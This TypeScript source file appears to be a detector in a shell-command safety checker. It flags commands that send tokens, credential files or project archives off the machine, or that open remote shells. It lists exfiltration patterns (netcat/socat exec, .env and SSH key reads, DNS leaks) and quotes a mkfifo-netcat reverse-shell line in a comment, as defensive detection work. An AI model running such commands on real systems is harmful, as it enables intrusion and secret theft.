import type { SimpleCommand } from '../../shell/simple-command.ts'
import { isShell } from '../../shell/wrappers/wrappers.ts'
import { lineOf } from '../line.ts'
import { hasTokenSign } from '../program-names.ts'
import { has, type Look, type Scene, valuesAfter } from '../scene.ts'
import { TOKEN } from '../tokens.ts'

export function isThisMachine(word: string): boolean {
  return /^(?:https?:\/\/)?(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|host\.docker\.internal|[\w-]+\.local(?:host)?)(?::|\/|$)|^:\d+/.test(
    word,
  )
}

/** Secrets that leave the machine: as a file, from a pipe, in a substitution. */
export const sender: Look = (command, scene, at) => {
  const { words } = command
  if (/^(?:nc|ncat|netcat)$/.test(command.name) && has(command, '-e', '-c', '--exec', '--sh-exec'))
    scene.add('runs', 'remote', command)
  if (command.name === 'socat' && /\b(?:EXEC|SYSTEM):/i.test(lineOf(command))) scene.add('runs', 'remote', command)
  if (words.slice(1).some(isThisMachine)) return
  const identity = valuesAfter(command, '-i')
  // A header is how a token is used; an address or a body is how it is given away.
  const used = valuesAfter(command, '-H', '--header', '-u', '--user', '--oauth2-bearer', '-b', '--cookie')
  for (const word of words.slice(1))
    if (hasTokenSign(word) && TOKEN.test(word) && !used.includes(word)) scene.add('sends', 'secret', command, 'a token')
  for (const word of words.slice(1)) {
    if (/^(?:ssh|scp|sftp)$/.test(command.name) && identity.includes(word)) continue
    if (/^https?:.*[?&][\w-]+=.*\$\{?\w*(?:TOKEN|SECRET|PASSWORD|KEY)\w*/.test(word))
      scene.add('sends', 'secret', command, word)
    if (word.startsWith('file://') && scene.place(word, command).place === 'secret')
      scene.add('reads', 'secret', command, word)
    const file =
      /^(?:[\w.[\]-]*=|\w+(?=@))?[@<](.+?)(?:;.*)?$/.exec(word)?.[1] ??
      (command.name === 'curl' || command.name === 'wget' ? undefined : word)
    if (file && !/^https?:/.test(file) && scene.place(file, command).place === 'secret')
      scene.add('sends', 'secret', command, file)
    if (
      /\$\{?(?:\w*(?:SECRET|PASSWORD|PRIVATE_KEY)\w*)\}?/.test(word) &&
      command.name !== 'curl' &&
      /dig|nslookup|ping|host/.test(command.name)
    )
      scene.add('sends', 'secret', command, word)
  }
  for (const file of valuesAfter(command, '-T', '--upload-file', '--post-file', '--body-file', '-a'))
    if (scene.place(file, command).place === 'secret') scene.add('sends', 'secret', command, file)
  const producers = scene.feeding(at)
  const inText = lineOf(command)
  for (const producer of producers) {
    // `mkfifo f; cat f | sh -i | nc host 4444 > f`
    if (isShell(producer.name) && DIALS.test(command.name)) scene.add('runs', 'remote', command, lineOf(producer))
    if (showsSecret(producer, scene)) scene.add('sends', 'secret', command, lineOf(producer))
    if (/^(?:nc|ncat|netcat|curl|socat)$/.test(command.name) && packsProject(producer, scene))
      scene.add('sends', 'project', command, lineOf(producer))
  }
  for (const [, inner = ''] of inText.matchAll(/\$\(([^)]*)\)|`([^`]*)`/g))
    if (
      /(?:^|[\s/<])(?:\.env|id_rsa|id_ed25519|\.netrc|\.ssh\/|\.aws\/|\.pgpass|shadow)\b/.test(inner) ||
      /^(?:env|printenv|set)\b/.test(inner)
    )
      scene.add('sends', 'secret', command, inner)
}

const DIALS = /^(?:nc|ncat|netcat|socat|telnet|openssl)$/

export function showsSecret(producer: SimpleCommand, scene: Scene): boolean {
  if (
    /^(?:env|printenv|set|export|declare|history)$/.test(producer.name) &&
    producer.args.length === 0 &&
    producer.words.length < 3
  )
    return true
  return [...producer.args, ...producer.redirects.map(({ target }) => target)].some(
    (word) => scene.place(word, producer).place === 'secret',
  )
}

/** The project, the home folder or a dump of a database on its way out. */
function packsProject(producer: SimpleCommand, scene: Scene): boolean {
  if (/^(?:pg_dump|pg_dumpall|mysqldump|mongodump)$/.test(producer.name)) return true
  if (!/^(?:tar|zip|git|cpio)$/.test(producer.name)) return false
  if (producer.name === 'git') return producer.args[0] === 'archive' || producer.args[0] === 'bundle'
  return producer.args.some((word) =>
    ['everything', 'home', 'outside', 'root', 'history', 'system'].includes(scene.place(word, producer).place),
  )
}
